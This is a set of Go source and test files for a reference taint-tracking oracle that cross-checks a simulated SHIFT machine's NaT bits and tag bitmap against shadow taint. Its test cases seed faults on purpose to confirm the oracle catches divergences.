func (o *Oracle) authoritative(ins *isa.Instruction) bool {
	return o.cfg.Instrumented && !ins.ABI && ins.Class == isa.ClassOrig
}

// setReg writes a register's shadow taint, preserving r0 == clean.
func setReg(rs *regShadow, r uint8, t bool) {
	if r == isa.RegZero {
		return
	}
	rs.taint[r] = t
}

// PostStep implements machine.StepHook: run the boundary cross-checks,
// then interpret the retired instruction against the shadow state, then
// check the mechanical NaT rules for the written register.
func (o *Oracle) PostStep(m *machine.Machine, ins *isa.Instruction) error {
	o.Stats.Steps++
	rs := o.regs(m.TID)

	// An original instruction marks the previous instrumentation block
	// complete: queued tag-update checks and the register NaT-vs-shadow
	// sweep are sound here. The register this instruction just wrote is
	// skipped — its own block (the taint add after a load) is still
	// open — and is covered at the next boundary.
	if o.checking() && ins.Class == isa.ClassOrig {
		skip := -1
		if d, ok := destGR(ins); ok {
			skip = int(d)
		}
		if err := o.flush(m, ins, skip); err != nil {
			return err
		}
		if ins.Op == isa.OpSyscall && !rs.squashed {
			// Syscall boundary: the OS model has read guest memory and
			// mirrored its writes; the whole visible bitmap must agree.
			if err := o.sweep(m, ins); err != nil {
				return err
			}
		}
	}
	if rs.squashed {
		return nil
	}

	switch ins.Op {
	case isa.OpAdd, isa.OpAnd, isa.OpAndcm, isa.OpOr,
		isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem:
		setReg(rs, ins.Dest, rs.taint[ins.Src1] || rs.taint[ins.Src2])

	case isa.OpSub, isa.OpXor:
		// Self-clearing idioms: the result is data-independent.
		t := false
		if ins.Src1 != ins.Src2 {
			t = rs.taint[ins.Src1] || rs.taint[ins.Src2]
		}
		setReg(rs, ins.Dest, t)

	case isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori,
		isa.OpShli, isa.OpShri, isa.OpSari, isa.OpMov:
		setReg(rs, ins.Dest, rs.taint[ins.Src1])

	case isa.OpMovl:
		setReg(rs, ins.Dest, false)

	case isa.OpLd:
		// A plain load always clears NaT — the stripping behaviour
		// SHIFT builds its laundering on. Check the rule held.
		if ins.Dest != isa.RegZero && m.NaT[ins.Dest] {
			return o.fail(m, ins, Divergence{Kind: DivNaTRule, Reg: ins.Dest, Machine: true, Shadow: false})
		}
		setReg(rs, ins.Dest, o.loadTaint(rs.addr, int(ins.Size)))

	case isa.OpLdS:
		if ins.Dest != isa.RegZero && m.NaT[ins.Dest] != rs.deferred {
			return o.fail(m, ins, Divergence{Kind: DivNaTRule, Reg: ins.Dest, Machine: m.NaT[ins.Dest], Shadow: rs.deferred})
		}
		// A deferred load manufactures a NaT token instead of data.
		// SHIFT's one-bit encoding cannot tell that token apart from
		// taint, so the shadow calls it tainted: the boundary check
		// (NaT == taint) stays an equality, and a chk.s-less consume of
		// the deferral is flagged exactly like a taint consume.
		t := true
		if !rs.deferred {
			t = o.loadTaint(rs.addr, int(ins.Size))
		}
		setReg(rs, ins.Dest, t)

	case isa.OpLdFill:
		// The fill's NaT comes from UNAT, which the oracle deliberately
		// does not model; taint comes straight from the spilled unit.
		setReg(rs, ins.Dest, o.loadTaint(rs.addr, 8))

	case isa.OpSt:
		o.setMem(rs.addr, int(ins.Size), rs.taint[ins.Src2], o.authoritative(ins))

	case isa.OpStSpill:
		o.setMem(rs.addr, 8, rs.taint[ins.Src2], o.authoritative(ins))

	case isa.OpCmpxchg:
		if ins.Dest != isa.RegZero && m.NaT[ins.Dest] {
			return o.fail(m, ins, Divergence{Kind: DivNaTRule, Reg: ins.Dest, Machine: true, Shadow: false})
		}
		// A cmpxchg is a load of the old value and, when the compare
		// succeeds, a store of the new one: the destination inherits the
		// location's old taint, and a committed exchange propagates the
		// data's taint into memory. The instrumentation pass now follows
		// an original cmpxchg with a tag-update sequence (closing the
		// paper's §4.4 gap), so the units are checked against the bitmap
		// like any store's.
		old := o.loadTaint(rs.addr, int(ins.Size))
		if rs.xchgOld == rs.ccvPre {
			o.setMem(rs.addr, int(ins.Size), rs.taint[ins.Src2], o.authoritative(ins))
		}
		setReg(rs, ins.Dest, old)

	case isa.OpMovFromBr, isa.OpMovFromUnat:
		// Branch registers can never hold tainted data (mov-to-br
		// traps on NaT) and UNAT is tag metadata, not data.
		setReg(rs, ins.Dest, false)

	case isa.OpMovToCcv:
		rs.ccv = rs.taint[ins.Src1]

	case isa.OpMovFromCcv:
		setReg(rs, ins.Dest, rs.ccv)

	case isa.OpSyscall:
		// The OS wrote its result (if any) through r8 with NaT clear;
		// host data is clean unless a source marked it, which arrives
		// via HostTaint. A syscall that left r8 alone preserves taint.
		if m.GR[isa.RegRet] != rs.r8 || m.NaT[isa.RegRet] != rs.r8NaT {
			rs.taint[isa.RegRet] = false
		}

	case isa.OpSetNat, isa.OpClrNat:
		// Pure NaT manipulation: no data flows, so no shadow change.
		// The NaT-implies-taint check below still applies to setnat on
		// an original register.
	}

	// No original-program register may carry a NaT token the shadow
	// cannot account for. This is the per-instruction direction of the
	// register cross-check; full equality holds only at boundaries.
	if o.checking() {
		if d, ok := destGR(ins); ok && d >= 1 && d < FirstReservedReg && m.NaT[d] && !rs.taint[d] {
			return o.fail(m, ins, Divergence{Kind: DivRegister, Reg: d, Machine: true, Shadow: false})
		}
	}
	return nil
}
