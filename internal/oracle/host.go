package oracle

import "shift/internal/isa"

// The methods below implement the shift package's HostEffects interface:
// the OS model reports its direct effects on guest state so the shadow
// can mirror them. All of them are defined-semantics adoptions, not
// checks — host behaviour is the specification, not the system under
// test.

// HostWrite records that the OS wrote n bytes of host data at addr
// (read(2)-style transfers, getarg strings). The tag bitmap's view is
// authoritative here: the OS model marks sources explicitly (reported
// separately via HostTaint) and otherwise leaves tags sticky, so the
// shadow adopts whatever the bitmap says for the touched units.
func (o *Oracle) HostWrite(addr uint64, n int) {
	if n > 0 {
		o.adoptMem(addr, uint64(n))
	}
}

// HostTaint records that the OS marked [addr, addr+n) as a taint source.
func (o *Oracle) HostTaint(addr, n uint64) {
	if n == 0 {
		return
	}
	for u := o.unitOf(addr); u < o.unitOf(addr+n-1)+o.unit; u += o.unit {
		o.mem[u] = memUnit{taint: true}
	}
}

// HostUntaint records that the OS explicitly cleared tags over
// [addr, addr+n) (the taint-control syscall).
func (o *Oracle) HostUntaint(addr, n uint64) {
	if n == 0 {
		return
	}
	for u := o.unitOf(addr); u < o.unitOf(addr+n-1)+o.unit; u += o.unit {
		o.mem[u] = memUnit{taint: false}
	}
}

// OnSpawn records a thread creation. The child inherits the taint of its
// argument register from the parent's argument slot; and from the first
// spawn onward the strong cross-checks stand down permanently — the
// store-to-tag-update window of one thread is observable by the others
// (the §4.4 atomicity gap), so bitmap and register-equality comparisons
// are no longer sound. Thread-local NaT-rule checks continue.
func (o *Oracle) OnSpawn(parentTID, childTID int) {
	parent := o.regs(parentTID)
	child := o.regs(childTID)
	child.taint[isa.RegArg0] = parent.taint[isa.RegArg0+1]
	// The kept mask and NaT source are inherited by the scheduler; their
	// shadow taint is irrelevant (reserved registers), but mirror the
	// argument path before standing down.
	o.concurrent = true
	o.pending = o.pending[:0]
}
