package oracle

import "shift/internal/isa"

// The methods below implement the shift package's HostEffects interface:
// the OS model reports its direct effects on guest state so the shadow
// can mirror them and then cross-check the bitmap's view of them.

// HostWrite records that the OS wrote n bytes of host data at addr
// (read(2)-style transfers, getarg strings). SHIFT's OS model leaves
// tags sticky — a host write never changes the bitmap, and explicit
// sources arrive separately via HostTaint — so the shadow keeps its own
// taint for the touched units and the syscall-boundary sweep verifies
// the bitmap really did stay put. A unit whose last writer bypassed the
// bitmap by design (a spill slot) loses that exemption the moment the
// OS overwrites it: its bitmap bit is adopted once, and from then on it
// is checked like any other unit.
func (o *Oracle) HostWrite(addr uint64, n int) {
	if n <= 0 {
		return
	}
	for u := o.unitOf(addr); u < o.unitOf(addr+uint64(n)-1)+o.unit; u += o.unit {
		mu := o.mem[u]
		if mu.hidden && o.cfg.Tags != nil {
			if bit, err := o.cfg.Tags.PeekUnit(u); err == nil {
				mu = memUnit{taint: bit}
			}
		}
		o.mem[u] = mu
	}
}

// HostTaint records that the OS marked [addr, addr+n) as a taint source.
func (o *Oracle) HostTaint(addr, n uint64) {
	if n == 0 {
		return
	}
	for u := o.unitOf(addr); u < o.unitOf(addr+n-1)+o.unit; u += o.unit {
		o.mem[u] = memUnit{taint: true}
	}
}

// HostUntaint records that the OS explicitly cleared tags over
// [addr, addr+n) (the taint-control syscall).
func (o *Oracle) HostUntaint(addr, n uint64) {
	if n == 0 {
		return
	}
	for u := o.unitOf(addr); u < o.unitOf(addr+n-1)+o.unit; u += o.unit {
		o.mem[u] = memUnit{taint: false}
	}
}

// OnSpawn records a thread creation. The child inherits the taint of its
// argument register from the parent's argument slot. Under the default
// tag-coherent scheduling, every instrumentation block retires whole
// before a sibling thread runs, so the strong cross-checks remain sound
// in fully multithreaded runs and nothing stands down. Only under
// Config.UnsafePreempt — where a slice may end inside a
// store-to-tag-update window (the §4.4 atomicity gap under study) — do
// bitmap and register-equality comparisons stop from the first spawn
// onward, leaving the thread-local NaT-rule checks.
func (o *Oracle) OnSpawn(parentTID, childTID int) {
	parent := o.regs(parentTID)
	child := o.regs(childTID)
	child.taint[isa.RegArg0] = parent.taint[isa.RegArg0+1]
	if o.cfg.UnsafePreempt {
		o.concurrent = true
		o.pending = o.pending[:0]
	}
}
