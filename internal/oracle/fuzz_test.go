package oracle

import (
	"math/rand"
	"testing"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
)

// FuzzMachineNaTRules throws random-but-valid instruction streams at a
// bare machine with the oracle attached in mechanical-checks mode: plain
// loads must clear NaT, and speculative loads must defer exactly when an
// independent recomputation says they should. Traps are normal for random
// code; a TrapOracle is a machine bug.
func FuzzMachineNaTRules(f *testing.F) {
	for s := int64(1); s <= 8; s++ {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, seed int64) {
		rng := rand.New(rand.NewSource(seed))
		text := make([]isa.Instruction, 1+rng.Intn(96))
		for i := range text {
			text[i] = isa.RandomInstruction(rng)
		}
		p := &isa.Program{Text: text}
		if err := p.Validate(); err != nil {
			t.Skip() // generator and validator disagree on a corner; not our target
		}
		memory := mem.New()
		memory.MapRegion(1, 0)
		memory.MapRegion(2, 0)
		m := machine.New(p, memory)
		m.Feat = machine.Features{SetClrNaT: true, NaTAwareCmp: rng.Intn(2) == 0}
		o := New(Config{})
		o.Attach(m)
		for i := 0; i < 4096 && !m.Halted; i++ {
			trap := m.Step()
			if trap == nil {
				continue
			}
			if trap.Kind == machine.TrapOracle {
				t.Fatalf("seed %d: NaT rule broken: %v", seed, trap.Err)
			}
			break // faults are expected business for random code
		}
	})
}
