package oracle

import (
	"sort"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/taint"
)

// FirstReservedReg is the first instrumentation-reserved register.
// Original-program registers are r1..r118: r119..r127 are reserved by the
// instrumentation pass (scratch, kept mask, NaT source) and are routinely
// NaT'd or laundered, so they carry no reference-taint meaning. Exported
// for the decoupled tag pipeline, which runs the same boundary sweeps.
const FirstReservedReg = 119

// Config selects what the oracle checks.
type Config struct {
	// Tags is the tag bitmap under test; nil disables all bitmap
	// cross-checks (e.g. a bare machine run with no tag space).
	Tags *taint.Space
	// Instrumented states that the guest program maintains the bitmap
	// and register NaT bits as taint tags. When false (a baseline
	// build), only the mechanical NaT-rule checks run: there is no tag
	// state to compare the shadow against.
	Instrumented bool
	// UnsafePreempt mirrors machine.Machine.UnsafePreempt: the scheduler
	// may end a time slice between a data store and its tag update. In
	// that mode the strong cross-checks stand down once a second thread
	// spawns — the §4.4 window really is observable, so bitmap and
	// register comparisons would flag the hazard under test rather than
	// a divergence. Under the default tag-coherent scheduling the checks
	// stay up through fully multithreaded runs.
	UnsafePreempt bool
}

// memUnit is the shadow state of one tracked unit (one byte at byte
// granularity, one 8-byte word at word granularity).
type memUnit struct {
	taint bool
	// hidden marks a unit whose last write bypassed the bitmap by
	// design: ABI register-preservation traffic, the instrumentation's
	// red-zone NaT-stripping spills, and tag-byte stores themselves.
	// The shadow still tracks taint through them (that is how spilled
	// tokens keep their meaning), but the bitmap is not expected to
	// agree there.
	hidden bool
}

// regShadow is one thread's register taint state.
type regShadow struct {
	taint [isa.NumGR]bool
	// ccv is the shadow taint of the ar.ccv compare value.
	ccv bool
	// pre-state captured by PreStep for the instruction in flight.
	squashed bool
	addr     uint64
	deferred bool
	ccvPre   uint64
	xchgOld  uint64 // memory word a cmpxchg saw (Dest may be r0)
	r8       int64
	r8NaT    bool
}

// Stats counts the cross-checks performed, for reporting.
type Stats struct {
	Steps      uint64 // instructions observed
	RegChecks  uint64 // register boundary comparisons
	UnitChecks uint64 // bitmap unit comparisons
	Sweeps     uint64 // syscall/final bitmap sweeps
}

// Oracle is the lockstep reference engine. It implements
// machine.StepHook and the shift package's HostEffects interface.
type Oracle struct {
	cfg  Config
	unit uint64 // tracked unit size in bytes

	mem     map[uint64]memUnit
	threads map[int]*regShadow
	pending []uint64 // units awaiting a bitmap check at the next boundary

	// concurrent latches when a second thread spawns under
	// Config.UnsafePreempt: only then are the store-to-tag-update
	// windows of one thread observable by the others (the §4.4
	// atomicity gap), making bitmap and register-equality checks
	// unsound. Tag-coherent scheduling (the default) never sets it.
	concurrent bool

	failure *Divergence
	Stats   Stats
}

// New builds an oracle. Attach it with Attach (or machine.Machine.Hook),
// and wire it as the world's HostEffects to mirror syscall writes.
func New(cfg Config) *Oracle {
	unit := uint64(1)
	if cfg.Tags != nil {
		unit = cfg.Tags.Gran.UnitBytes()
	}
	return &Oracle{
		cfg:     cfg,
		unit:    unit,
		mem:     make(map[uint64]memUnit),
		threads: make(map[int]*regShadow),
	}
}

// Attach installs the oracle as the machine's step hook.
func (o *Oracle) Attach(m *machine.Machine) {
	m.Hook = o
}

// Divergence returns the first divergence found, or nil.
func (o *Oracle) Divergence() *Divergence { return o.failure }

// regs returns (creating on first use) the shadow for a thread.
func (o *Oracle) regs(tid int) *regShadow {
	rs := o.threads[tid]
	if rs == nil {
		rs = &regShadow{}
		o.threads[tid] = rs
	}
	return rs
}

// unitOf aligns an address down to its tracked unit.
func (o *Oracle) unitOf(addr uint64) uint64 { return addr &^ (o.unit - 1) }

// loadTaint ORs the shadow taint of every unit covering [addr, addr+size).
func (o *Oracle) loadTaint(addr uint64, size int) bool {
	for u := o.unitOf(addr); u < o.unitOf(addr+uint64(size)-1)+o.unit; u += o.unit {
		if o.mem[u].taint {
			return true
		}
	}
	return false
}

// setMem writes the shadow taint of every unit covering the access. An
// authoritative store (one the instrumentation pass follows with a tag
// update) also queues the units for a bitmap cross-check at the next
// original-instruction boundary.
func (o *Oracle) setMem(addr uint64, size int, t, authoritative bool) {
	for u := o.unitOf(addr); u < o.unitOf(addr+uint64(size)-1)+o.unit; u += o.unit {
		o.mem[u] = memUnit{taint: t, hidden: !authoritative}
		if authoritative && !o.concurrent {
			o.pending = append(o.pending, u)
		}
	}
}

// fail records the first divergence (later ones are ignored) and returns
// it as the error PostStep hands to the machine.
func (o *Oracle) fail(m *machine.Machine, ins *isa.Instruction, d Divergence) error {
	if o.failure != nil {
		return o.failure
	}
	d.TID = m.TID
	d.PC = m.PC
	d.Ins = ins.String()
	d.Snapshot = o.snapshot(m)
	o.failure = &d
	return o.failure
}

// checkUnit compares one unit's bitmap bit against the shadow.
func (o *Oracle) checkUnit(m *machine.Machine, ins *isa.Instruction, u uint64) error {
	bit, err := o.cfg.Tags.PeekUnit(u)
	if err != nil {
		// The unit is not representable in the bitmap (red-zone or
		// host ranges outside mapped tag space never are in practice);
		// nothing to compare.
		return nil
	}
	o.Stats.UnitChecks++
	if sh := o.mem[u].taint; bit != sh {
		return o.fail(m, ins, Divergence{Kind: DivBitmap, Addr: u, Machine: bit, Shadow: sh})
	}
	return nil
}

// flush runs the queued store checks, then (at boundaries) the register
// NaT-vs-shadow sweep, skipping the register the current instruction just
// wrote (its instrumentation block is still open).
func (o *Oracle) flush(m *machine.Machine, ins *isa.Instruction, skip int) error {
	for _, u := range o.pending {
		if err := o.checkUnit(m, ins, u); err != nil {
			return err
		}
	}
	o.pending = o.pending[:0]
	rs := o.regs(m.TID)
	for r := 1; r < FirstReservedReg; r++ {
		if r == skip {
			continue
		}
		o.Stats.RegChecks++
		if m.NaT[r] != rs.taint[r] {
			return o.fail(m, ins, Divergence{Kind: DivRegister, Reg: uint8(r), Machine: m.NaT[r], Shadow: rs.taint[r]})
		}
	}
	return nil
}

// sweep cross-checks every non-hidden unit the shadow knows about
// against the bitmap, in address order.
func (o *Oracle) sweep(m *machine.Machine, ins *isa.Instruction) error {
	o.Stats.Sweeps++
	units := make([]uint64, 0, len(o.mem))
	for u, mu := range o.mem {
		if !mu.hidden {
			units = append(units, u)
		}
	}
	sort.Slice(units, func(i, j int) bool { return units[i] < units[j] })
	for _, u := range units {
		if err := o.checkUnit(m, ins, u); err != nil {
			return err
		}
	}
	return nil
}

// Finish runs the final bitmap sweep and boundary checks after a clean
// run. Call it once execution has halted without a trap.
func (o *Oracle) Finish(m *machine.Machine) error {
	if o.failure != nil {
		return o.failure
	}
	if !o.checking() {
		return nil
	}
	nop := isa.Instruction{Op: isa.OpNop}
	if err := o.flush(m, &nop, -1); err != nil {
		return err
	}
	return o.sweep(m, &nop)
}

// checking reports whether the strong (tag-state vs shadow) checks are
// sound right now.
func (o *Oracle) checking() bool {
	return o.cfg.Instrumented && o.cfg.Tags != nil && !o.concurrent && o.failure == nil
}
