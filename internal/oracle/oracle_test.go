package oracle

import (
	"errors"
	"testing"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/taint"
)

// buildMachine assembles a program, maps the data regions and returns a
// machine with a tag space over region 0.
func buildMachine(t *testing.T, text []isa.Instruction, g taint.Granularity) (*machine.Machine, *taint.Space) {
	t.Helper()
	p := &isa.Program{Text: text}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	memory := mem.New()
	tags := taint.NewSpace(memory, g) // maps region 0
	memory.MapRegion(2, 0)
	m := machine.New(p, memory)
	return m, tags
}

// stepAll single-steps the whole program, returning the first trap.
func stepAll(m *machine.Machine, n int) *machine.Trap {
	for i := 0; i < n; i++ {
		if trap := m.Step(); trap != nil {
			return trap
		}
	}
	return nil
}

var dataAddr = mem.Addr(2, 0x100)

// A store/load/ALU round trip with agreeing state must run divergence-free
// in both instrumented and uninstrumented configurations.
func TestOracleCleanRun(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpMovl, Dest: 2, Imm: 42},
		{Op: isa.OpSt, Src1: 1, Src2: 2, Size: 8},
		{Op: isa.OpLd, Dest: 3, Src1: 1, Size: 8},
		{Op: isa.OpAdd, Dest: 4, Src1: 2, Src2: 3},
	}
	for _, instrumented := range []bool{false, true} {
		m, tags := buildMachine(t, text, taint.Byte)
		o := New(Config{Tags: tags, Instrumented: instrumented})
		o.Attach(m)
		if trap := stepAll(m, len(text)); trap != nil {
			t.Fatalf("instrumented=%v: %v", instrumented, trap)
		}
		if err := o.Finish(m); err != nil {
			t.Fatalf("instrumented=%v: Finish: %v", instrumented, err)
		}
		if o.Stats.Steps != uint64(len(text)) {
			t.Errorf("observed %d steps, want %d", o.Stats.Steps, len(text))
		}
	}
}

// A store whose tag update went missing (here: the bitmap says tainted,
// the stored value was clean) must surface as a bitmap divergence at the
// next original-instruction boundary.
func TestOracleCatchesStaleBitmap(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpMovl, Dest: 2, Imm: 7},
		{Op: isa.OpSt, Src1: 1, Src2: 2, Size: 8}, // clean store, no tag update follows
		{Op: isa.OpAdd, Dest: 4, Src1: 2, Src2: 2},
	}
	for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
		m, tags := buildMachine(t, text, g)
		if err := tags.SetRange(dataAddr, 8); err != nil { // seeded bug: stale taint
			t.Fatal(err)
		}
		o := New(Config{Tags: tags, Instrumented: true})
		o.Attach(m)
		trap := stepAll(m, len(text))
		if trap == nil || trap.Kind != machine.TrapOracle {
			t.Fatalf("gran=%v: trap = %v, want oracle divergence", g, trap)
		}
		var d *Divergence
		if !errors.As(trap.Err, &d) || d.Kind != DivBitmap {
			t.Fatalf("gran=%v: divergence = %+v, want DivBitmap", g, trap.Err)
		}
		if d.Addr != tags.Gran.UnitBytes()*(dataAddr/tags.Gran.UnitBytes()) {
			t.Errorf("gran=%v: diverging unit %#x, want one covering %#x", g, d.Addr, dataAddr)
		}
		if !d.Machine || d.Shadow {
			t.Errorf("gran=%v: machine=%v shadow=%v, want true/false", g, d.Machine, d.Shadow)
		}
	}
}

// A NaT bit with no shadow taint to account for it (a phantom token) must
// surface as a register divergence at the next boundary sweep.
func TestOracleCatchesPhantomNaT(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: 3},
		{Op: isa.OpAddi, Dest: 2, Src1: 1, Imm: 1},
	}
	m, tags := buildMachine(t, text, taint.Byte)
	o := New(Config{Tags: tags, Instrumented: true})
	o.Attach(m)
	if trap := m.Step(); trap != nil {
		t.Fatal(trap)
	}
	m.NaT[6] = true // seeded bug: token appears out of nowhere
	trap := m.Step()
	if trap == nil || trap.Kind != machine.TrapOracle {
		t.Fatalf("trap = %v, want oracle divergence", trap)
	}
	var d *Divergence
	if !errors.As(trap.Err, &d) || d.Kind != DivRegister || d.Reg != 6 {
		t.Fatalf("divergence = %+v, want DivRegister on r6", trap.Err)
	}
}

// The reverse direction: shadow taint the machine lost (NaT cleared where
// the reference says the data is tainted) must also surface.
func TestOracleCatchesDroppedTaint(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpLd, Dest: 2, Src1: 1, Size: 8}, // loads tainted data, NaT stays clear
		{Op: isa.OpAddi, Dest: 3, Src1: 2, Imm: 1},
		{Op: isa.OpNop},
	}
	m, tags := buildMachine(t, text, taint.Byte)
	if err := tags.SetRange(dataAddr, 8); err != nil {
		t.Fatal(err)
	}
	o := New(Config{Tags: tags, Instrumented: true})
	o.Attach(m)
	// Tell the shadow the tainted source is real (as the OS would).
	o.HostTaint(dataAddr, 8)
	trap := stepAll(m, len(text))
	if trap == nil || trap.Kind != machine.TrapOracle {
		t.Fatalf("trap = %v, want oracle divergence", trap)
	}
	var d *Divergence
	if !errors.As(trap.Err, &d) || d.Kind != DivRegister {
		t.Fatalf("divergence = %+v, want DivRegister", trap.Err)
	}
	if d.Machine || !d.Shadow {
		t.Errorf("machine=%v shadow=%v, want false/true (machine dropped the taint)", d.Machine, d.Shadow)
	}
}

// Speculative-load deferral: the oracle recomputes the defer decision
// independently and must agree with the machine on both outcomes.
func TestOracleLdSDeferAgreement(t *testing.T) {
	unmapped := mem.Addr(5, 0x40) // region 5 is not mapped
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(unmapped)},
		{Op: isa.OpLdS, Dest: 2, Src1: 1, Size: 8}, // faults -> defers -> NaT
		{Op: isa.OpMovl, Dest: 3, Imm: int64(dataAddr)},
		{Op: isa.OpLdS, Dest: 4, Src1: 3, Size: 8}, // succeeds -> clean
	}
	m, _ := buildMachine(t, text, taint.Byte)
	o := New(Config{}) // mechanical NaT-rule checks only
	o.Attach(m)
	if trap := stepAll(m, len(text)); trap != nil {
		t.Fatal(trap)
	}
	if !m.NaT[2] || m.NaT[4] {
		t.Fatalf("NaT[2]=%v NaT[4]=%v, want true/false", m.NaT[2], m.NaT[4])
	}
	if o.Divergence() != nil {
		t.Fatalf("unexpected divergence: %v", o.Divergence())
	}
}

// Finish must catch state that diverged after the last instruction (e.g.
// a final tag write with no store behind it).
func TestOracleFinishSweeps(t *testing.T) {
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: int64(dataAddr)},
		{Op: isa.OpMovl, Dest: 2, Imm: 9},
		{Op: isa.OpSt, Src1: 1, Src2: 2, Size: 8},
		{Op: isa.OpNop},
	}
	m, tags := buildMachine(t, text, taint.Byte)
	o := New(Config{Tags: tags, Instrumented: true})
	o.Attach(m)
	if trap := stepAll(m, len(text)); trap != nil {
		t.Fatal(trap)
	}
	if err := o.Finish(m); err != nil {
		t.Fatalf("clean run: %v", err)
	}
	if err := tags.SetRange(dataAddr, 8); err != nil {
		t.Fatal(err)
	}
	err := o.Finish(m)
	var d *Divergence
	if !errors.As(err, &d) || d.Kind != DivBitmap {
		t.Fatalf("Finish = %v, want DivBitmap", err)
	}
}

// Host-effect notifications must steer the shadow: taint marking and
// explicit clearing drive it, while a host write keeps the shadow's own
// view so the bitmap's stickiness is checked rather than adopted.
func TestOracleHostEffects(t *testing.T) {
	m, tags := buildMachine(t, []isa.Instruction{{Op: isa.OpNop}}, taint.Byte)
	_ = m
	o := New(Config{Tags: tags, Instrumented: true})

	o.HostTaint(dataAddr, 4)
	if !o.loadTaint(dataAddr, 4) {
		t.Error("HostTaint did not mark the shadow")
	}
	o.HostUntaint(dataAddr, 4)
	if o.loadTaint(dataAddr, 4) {
		t.Error("HostUntaint did not clear the shadow")
	}
	// A host write over a previously tainted range preserves the shadow's
	// taint (OS tag stickiness is the reference semantics under check).
	o.HostTaint(dataAddr, 2)
	o.HostWrite(dataAddr, 4)
	if !o.loadTaint(dataAddr, 2) || o.loadTaint(dataAddr+2, 2) {
		t.Error("HostWrite did not preserve the shadow's sticky taint")
	}
}

// A tag bit the OS model should have left alone (stickiness says a host
// write never changes the bitmap) must surface as a bitmap divergence at
// the next sweep instead of being silently adopted into the shadow.
func TestOracleChecksHostWriteStickiness(t *testing.T) {
	m, tags := buildMachine(t, []isa.Instruction{{Op: isa.OpNop}}, taint.Byte)
	o := New(Config{Tags: tags, Instrumented: true})
	o.Attach(m)

	// Seeded bug: the bitmap gains taint under a host write with no
	// source (HostTaint) to justify it.
	if err := tags.SetRange(dataAddr, 2); err != nil {
		t.Fatal(err)
	}
	o.HostWrite(dataAddr, 4)
	if o.loadTaint(dataAddr, 4) {
		t.Fatal("shadow adopted unexplained bitmap taint")
	}
	err := o.Finish(m)
	var d *Divergence
	if !errors.As(err, &d) || d.Kind != DivBitmap {
		t.Fatalf("Finish = %v, want DivBitmap on the stuck-on tag", err)
	}
	if !d.Machine || d.Shadow {
		t.Errorf("machine=%v shadow=%v, want true/false", d.Machine, d.Shadow)
	}
}

// Under tag-coherent scheduling (the default) spawning a second thread
// keeps every strong check standing; only the UnsafePreempt configuration
// reproduces the old stand-down. The child's argument-taint inheritance
// applies in both modes.
func TestOracleSpawnKeepsChecking(t *testing.T) {
	m, tags := buildMachine(t, []isa.Instruction{{Op: isa.OpNop}}, taint.Byte)
	_ = m
	o := New(Config{Tags: tags, Instrumented: true})
	if !o.checking() {
		t.Fatal("oracle not checking before spawn")
	}
	o.regs(0).taint[isa.RegArg0+1] = true
	o.OnSpawn(0, 1)
	if !o.checking() {
		t.Error("strong checks stood down after spawn despite coherent scheduling")
	}
	if !o.regs(1).taint[isa.RegArg0] {
		t.Error("child argument taint not inherited")
	}

	u := New(Config{Tags: tags, Instrumented: true, UnsafePreempt: true})
	u.regs(0).taint[isa.RegArg0+1] = true
	u.OnSpawn(0, 1)
	if u.checking() {
		t.Error("strong checks still on after spawn under UnsafePreempt")
	}
	if !u.regs(1).taint[isa.RegArg0] {
		t.Error("child argument taint not inherited under UnsafePreempt")
	}
}
