// Package oracle implements a host-side reference DIFT engine that runs
// in lockstep with the simulated machine and cross-checks SHIFT's
// NaT/bitmap tag machinery against plain shadow-taint interpretation.
//
// The oracle keeps an explicit taint bit per general register (per
// thread) and per tracked memory unit, propagated by direct
// interpretation of each retired instruction — with none of the
// NaT/spill/UNAT machinery the instrumented program uses. Where the two
// representations must agree (register NaT bits at original-instruction
// boundaries, the region-0 tag bitmap at stores, spills and syscall
// boundaries), any disagreement is reported as a Divergence carrying a
// machine snapshot. HardTaint (arXiv:2402.17241) validates selective
// hardware tracing against exactly this kind of full software oracle;
// this package gives the SHIFT reproduction the same safety net.
package oracle

import (
	"fmt"
	"strings"

	"shift/internal/isa"
	"shift/internal/machine"
)

// DivergenceKind classifies what disagreed.
type DivergenceKind uint8

// Divergence kinds.
const (
	// DivRegister: a register's NaT bit disagrees with the oracle's
	// shadow taint at an original-instruction boundary.
	DivRegister DivergenceKind = iota
	// DivBitmap: a tag-bitmap bit disagrees with the oracle's shadow
	// taint for a memory unit.
	DivBitmap
	// DivNaTRule: the machine's mechanical NaT behaviour broke one of
	// its own rules (a plain load left NaT set, or a speculative load's
	// defer decision disagrees with an independent recomputation).
	DivNaTRule
)

// String names the kind.
func (k DivergenceKind) String() string {
	switch k {
	case DivRegister:
		return "register-nat-vs-shadow"
	case DivBitmap:
		return "bitmap-vs-shadow"
	case DivNaTRule:
		return "nat-rule"
	}
	return fmt.Sprintf("divergence(%d)", uint8(k))
}

// Divergence is the first disagreement found between the machine's tag
// state and the oracle's reference shadow. It implements error and is
// carried inside a machine.TrapOracle trap.
type Divergence struct {
	Kind DivergenceKind
	TID  int
	PC   int
	Ins  string // disassembly of the instruction being retired

	Reg     uint8  // diverging register (DivRegister / DivNaTRule)
	Addr    uint64 // diverging unit address (DivBitmap)
	Machine bool   // what the machine's tag state says
	Shadow  bool   // what the oracle's shadow says

	Snapshot string // register/NaT/shadow dump at detection time
}

// Error implements the error interface.
func (d *Divergence) Error() string {
	var where string
	switch d.Kind {
	case DivBitmap:
		where = fmt.Sprintf("unit %#x", d.Addr)
	default:
		where = fmt.Sprintf("r%d", d.Reg)
	}
